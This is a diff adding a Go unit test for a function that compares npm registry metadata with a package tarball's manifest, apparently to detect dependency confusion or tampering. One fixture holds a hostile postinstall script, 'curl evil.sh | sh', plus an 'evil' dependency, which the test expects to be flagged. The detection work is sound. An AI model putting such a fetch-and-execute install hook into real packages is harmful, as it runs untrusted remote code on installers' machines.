@@ -0,0 +1,57 @@
+package confusion
+
+import (
+	"testing"
+
+	"github.com/scagogogo/npm-crawler/pkg/models"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCompare(t *testing.T) {
+	registry := &models.Version{
+		Name:         "demo",
+		Version:      "1.0.0",
+		Dependencies: map[string]string{"a": "^1.0.0", "b": "^2.0.0"},
+		Scripts:      &models.Script{Test: "jest", All: map[string]string{"test": "jest", "install": "node-gyp rebuild"}},
+		Bin:          models.Bin{"demo": "./cli.js"},
+		Os:           []string{"linux", "darwin"},
+	}
+	tarball := &models.Version{
+		Name:         "demo",
+		Version:      "v1.0.0",
+		Dependencies: map[string]string{"a": "^1.0.0", "b": "^3.0.0", "evil": "1.0.0"},
+		Scripts:      &models.Script{Test: "jest", All: map[string]string{"test": "jest", "postinstall": "curl evil.sh | sh"}},
+		Bin:          models.Bin{"": "cli.js"},
+		Os:           []string{"darwin", "linux"},
+	}
+
+	diffs := Compare(registry, tarball, []string{"package.json", "binding.gyp"})
+	assert.Equal(t, []*Difference{
+		{Field: "dependencies.b", Kind: DifferenceChanged, Registry: "^2.0.0", Tarball: "^3.0.0"},
+		{Field: "dependencies.evil", Kind: DifferenceAdded, Tarball: "1.0.0"},
+		{Field: "scripts.postinstall", Kind: DifferenceAdded, Tarball: "curl evil.sh | sh"},
+	}, diffs)
+
+	// 没有 binding.gyp 时 node-gyp 脚本也是差异
+	diffs = Compare(registry, tarball, nil)
+	assert.Contains(t, diffs, &Difference{Field: "scripts.install", Kind: DifferenceRemoved, Registry: "node-gyp rebuild"})
+
+	tarball.Name = "other"
+	tarball.Version = "2.0.0"
+	tarball.Os = nil
+	tarball.Engines = models.Engines{"node": ">=18"}
+	diffs = Compare(registry, tarball, []string{"binding.gyp"})
+	assert.Contains(t, diffs, &Difference{Field: "name", Kind: DifferenceChanged, Registry: "demo", Tarball: "other"})
+	assert.Contains(t, diffs, &Difference{Field: "version", Kind: DifferenceChanged, Registry: "1.0.0", Tarball: "2.0.0"})
+	assert.Contains(t, diffs, &Difference{Field: "os", Kind: DifferenceRemoved, Registry: "darwin,linux"})
+	assert.Contains(t, diffs, &Difference{Field: "engines.node", Kind: DifferenceAdded, Tarball: ">=18"})
+	// bin 的命令名由包名决定
+	assert.Contains(t, diffs, &Difference{Field: "bin.other", Kind: DifferenceAdded, Tarball: "cli.js"})
+	fields := make([]string, 0, len(diffs))
+	for _, diff := range diffs {
+		fields = append(fields, diff.Field)
+	}
+	assert.IsIncreasing(t, fields)
+
+	assert.Nil(t, Compare(registry, registry, nil))
+}